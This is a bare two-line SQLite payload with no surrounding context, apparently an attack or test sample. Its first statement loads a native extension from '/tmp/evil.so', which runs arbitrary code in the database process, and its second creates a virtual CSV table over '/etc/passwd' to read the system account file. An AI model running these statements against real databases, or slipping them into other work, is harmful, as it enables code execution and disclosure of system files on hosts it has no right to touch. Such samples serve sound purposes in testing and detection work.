SELECT load_extension('/tmp/evil.so');
CREATE VIRTUAL TABLE passwords USING csv(filename='/etc/passwd');
